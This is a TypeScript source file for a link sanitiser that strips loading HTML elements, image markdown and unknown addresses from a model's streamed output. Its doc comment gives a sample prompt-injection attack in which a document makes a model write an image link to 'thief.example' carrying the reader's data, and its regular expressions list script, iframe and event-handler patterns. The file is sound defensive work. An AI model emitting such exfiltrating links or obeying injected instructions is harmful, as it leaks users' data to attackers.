/** A text without links that could carry something out, and how many were taken away. */
export interface GuardedText {
  readonly text: string
  readonly removed: number
}

const REMOVED = '(link removed)'
const SCHEME = '[a-z][a-z0-9+.-]{1,30}:'

/** What stands behind `](`: a destination, perhaps in angle brackets, perhaps with a title. */
const DESTINATION = /\]\(\s*<?([^\s)>]*)>?[^)]*\)/gu
/** `[label]: destination` (CommonMark 0.31, link reference definitions), wherever it stands. */
const DEFINITION = /(\[[^\]\n]{1,999}\]:)[ \t]*\n?[ \t]*<?(\S+)/gu
const LOADING =
  'script|iframe|frame|style|object|embed|link|meta|base|svg|math|form|img|image|video|audio|source|track|input|button'
/** Elements that load or run something, and any element with an attribute that does. */
const ELEMENT = new RegExp(
  `</?(?:${LOADING})\\b[^>]{0,2000}>|<[a-z][^<>]{0,500}\\s(?:src|href|srcset|action|formaction|data|poster|background|style|on[a-z]+)\\s*=[^>]{0,2000}>`,
  'giu',
)
const UNCLOSED_ELEMENT = new RegExp(`<(?=/?(?:${LOADING})\\b)`, 'giu')
const ADDRESS = new RegExp(
  `(?<![\\p{L}\\p{N}])(?:(?:https?|ftp|wss?|file|blob|ipfs)://|www\\.|(?:javascript|data|vbscript|mailto|tel|sms):(?=\\S))[^\\s<>"'\`)\\]]+`,
  'giu',
)
/** More is not held back: what is still open then is no link of any reader. */
const LONGEST_OPEN = 4_000

/**
 * Makes the links of a model's text harmless. A document can order a model to write `![](https://thief.example/?q=…)`,
 * and whoever shows the answer as HTML would then fetch that address with the reader's data in it. So pictures are
 * never written, elements that load something are taken out, and an address stays only if it stands, as a whole, in
 * one of the passages that the model was given.
 */
export class LinkGuard {
  readonly #known: ReadonlySet<string>
  #open = ''

  /** @param texts The passages and the names of their sources. */
  constructor(texts: readonly string[]) {
    this.#known = new Set(texts.flatMap(text => [text.trim(), ...addressesIn(text)]))
  }

  /** The text so far, but for what could still become a link. */
  add(piece: string): string {
    this.#open += piece
    const end = certainEnd(this.#open)
    return this.#release(end)
  }

  /** The rest. */
  finish(): string {
    return this.#release(this.#open.length)
  }

  #release(end: number): string {
    const {text} = this.guard(this.#open.slice(0, end))
    this.#open = this.#open.slice(end)
    return text
  }

  /** A whole text. */
  guard(text: string): GuardedText {
    let removed = 0
    const drop = (): string => {
      removed += 1
      return REMOVED
    }
    const guarded = text
      .replaceAll(ELEMENT, drop)
      .replaceAll(UNCLOSED_ELEMENT, '< ')
      .replaceAll(DESTINATION, (whole, to: string) => (this.#leadsNowhere(to) ? whole : `] ${drop()}`))
      .replaceAll(DEFINITION, (whole, label: string, to: string) =>
        this.#leadsNowhere(to) ? whole : `${label} ${drop()}`,
      )
      .replaceAll(ADDRESS, address => this.#withoutForeign(address, drop))
      .replaceAll('![', '! [')
    return {text: guarded, removed}
  }

  /** A known address, or a path without a host. */
  #leadsNowhere(destination: string): boolean {
    if (this.#known.has(destination)) return true
    const plain = destination.replaceAll(/&(?:#\w+|\w+);|%[0-9a-f]{2}|[\p{Cc}\p{Cf}\s]/giu, '')
    return plain === destination && !new RegExp(`^(?:${SCHEME}|[/\\\\]{2}|www\\.)`, 'iu').test(destination)
  }

  #withoutForeign(address: string, drop: () => string): string {
    const end = withoutPunctuation(address)
    return this.#known.has(end) ? address : drop() + address.slice(end.length)
  }
}

function addressesIn(text: string): string[] {
  return [...text.matchAll(ADDRESS)].map(([address]) => withoutPunctuation(address))
}

function withoutPunctuation(address: string): string {
  return address.replace(/[.,;:!?*_~]+$/u, '')
}

/** What may be the beginning of a link: `](…`, an element, `[label]: …`. */
const OPEN = [/\]\([^)]*$/u, /<[a-z/!][^>]*$/iu, /!?\[[^\]\n]{0,999}(?:\](?::[ \t]*\n?[ \t]*\S*)?)?$/u]

/** The end of what no further text can turn into a link, or a part of one: white space outside of an open one. */
function certainEnd(text: string): number {
  // What elements hold, such as brackets and line ends, is gone before links are looked for.
  const seen = text.replaceAll(ELEMENT, element => 'x'.repeat(element.length))
  let end = seen.search(/\S*$/u)
  for (;;) {
    const before = seen.slice(0, end)
    const open = OPEN.map(pattern => before.search(pattern)).filter(at => at >= 0)
    if (open.length === 0) return text.length - end > LONGEST_OPEN ? text.length : end
    end = Math.min(...open)
  }
}
